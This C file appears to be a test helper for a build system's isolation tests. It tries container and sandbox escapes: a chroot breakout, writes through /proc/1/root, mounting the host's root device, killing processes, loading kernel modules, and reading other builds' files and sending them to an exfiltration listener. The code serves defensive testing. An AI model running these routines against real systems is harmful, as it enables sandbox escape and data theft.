/*
 * What a hostile build step tries, compiled statically and run as root inside a Kiln build
 * (test/isolation/escape.int.test.ts). Each mode makes one attempt and exits 0 if it got
 * through, 1 (naming the errno) if it was refused: inside Kiln's isolation every attempt must be
 * refused, so the RUN step fails and the build ends with this program's own error.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int refused(const char *what) {
  fprintf(stderr, "escape: %s refused: %s\n", what, strerror(errno));
  return 1;
}

static int got_through(const char *what) {
  fprintf(stderr, "escape: %s GOT THROUGH\n", what);
  return 0;
}

static int write_marker(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return -1;
  (void)!write(fd, "escaped\n", 8);
  close(fd);
  return 0;
}

/* The chroot escape buildah's chroot isolation falls to: chroot deeper, climb out with "..". */
static int chroot_escape(const char *target) {
  mkdir("/kiln-escape", 0755);
  if (chroot("/kiln-escape") != 0) return refused("chroot");
  for (int i = 0; i < 64; i++) (void)!chdir("..");
  if (chroot(".") != 0) return refused("chroot(.)");
  if (write_marker(target) != 0) return refused(target);
  return got_through("chroot escape");
}

/* PID 1's root: on a host without a PID namespace, the host's own file system. */
static int proc_root(const char *target) {
  char path[4096];
  snprintf(path, sizeof path, "/proc/1/root%s", target);
  if (write_marker(path) != 0) return refused(path);
  return got_through(path);
}

/* The host's root device, made and mounted: major:minor as the test read them on the host. */
static int mount_host(unsigned major_n, unsigned minor_n, const char *fstype) {
  mkdir("/kiln-host", 0755);
  if (mknod("/kiln-hostdev", S_IFBLK | 0600, makedev(major_n, minor_n)) != 0) return refused("mknod of the host's root device");
  if (mount("/kiln-hostdev", "/kiln-host", fstype, 0, NULL) != 0) return refused("mount of the host's root device");
  return got_through("mount of the host's root device");
}

static int kill_pid(pid_t pid) {
  if (kill(pid, SIGKILL) != 0) return refused("kill");
  return got_through("kill");
}

static int tcp_connect(const char *host, int port, const char *send) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(port)};
  if (s < 0 || inet_pton(AF_INET, host, &addr.sin_addr) != 1) return refused("socket");
  char what[128];
  snprintf(what, sizeof what, "connect to %s:%d", host, port);
  if (connect(s, (struct sockaddr *)&addr, sizeof addr) != 0 && errno != EINPROGRESS) return refused(what);
  struct pollfd p = {.fd = s, .events = POLLOUT};
  if (poll(&p, 1, 3000) != 1) {
    errno = ETIMEDOUT;
    return refused(what);
  }
  int err = 0;
  socklen_t len = sizeof err;
  getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &len);
  if (err != 0) {
    errno = err;
    return refused(what);
  }
  if (send) (void)!write(s, send, strlen(send));
  close(s);
  return got_through(what);
}

/* Any file as a module: without CAP_SYS_MODULE in the host's namespace the kernel refuses first. */
static int load_module(const char *file) {
  int fd = open(file, O_RDONLY);
  if (fd < 0) return refused(file);
  if (syscall(SYS_finit_module, fd, "", 0) != 0) return refused("finit_module");
  return got_through("finit_module");
}

/* Tries one path: whatever it reads goes to the exfiltration listener; 1 if it holds the needle. */
static int try_read(const char *candidate, const char *needle, const char *exfil_host, int exfil_port) {
  char buf[65536];
  int fd = open(candidate, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = 0;
  if (exfil_host) tcp_connect(exfil_host, exfil_port, buf);
  return strstr(buf, needle) != NULL;
}

/* Another build's file, by its host path and through every /proc/<pid>/root this step can see. */
static int read_file(const char *path, const char *needle, const char *exfil_host, int exfil_port) {
  char candidate[4096];
  if (try_read(path, needle, exfil_host, exfil_port)) return got_through(path);
  DIR *proc = opendir("/proc");
  for (struct dirent *e; proc && (e = readdir(proc));) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    snprintf(candidate, sizeof candidate, "/proc/%s/root%s", e->d_name, path);
    if (try_read(candidate, needle, exfil_host, exfil_port)) return got_through(candidate);
  }
  errno = ENOENT;
  return refused(path);
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "";
  if (!strcmp(mode, "chroot") && argc == 3) return chroot_escape(argv[2]);
  if (!strcmp(mode, "proc-root") && argc == 3) return proc_root(argv[2]);
  if (!strcmp(mode, "mount") && argc == 5) return mount_host(atoi(argv[2]), atoi(argv[3]), argv[4]);
  if (!strcmp(mode, "kill") && argc == 3) return kill_pid(atoi(argv[2]));
  if (!strcmp(mode, "connect") && argc >= 4) return tcp_connect(argv[2], atoi(argv[3]), argc > 4 ? argv[4] : NULL);
  if (!strcmp(mode, "module") && argc == 3) return load_module(argv[2]);
  if (!strcmp(mode, "read") && argc >= 4) return read_file(argv[2], argv[3], argc > 5 ? argv[4] : NULL, argc > 5 ? atoi(argv[5]) : 0);
  fprintf(stderr, "usage: escape chroot|proc-root|mount|kill|connect|module|read ...\n");
  return 2;
}
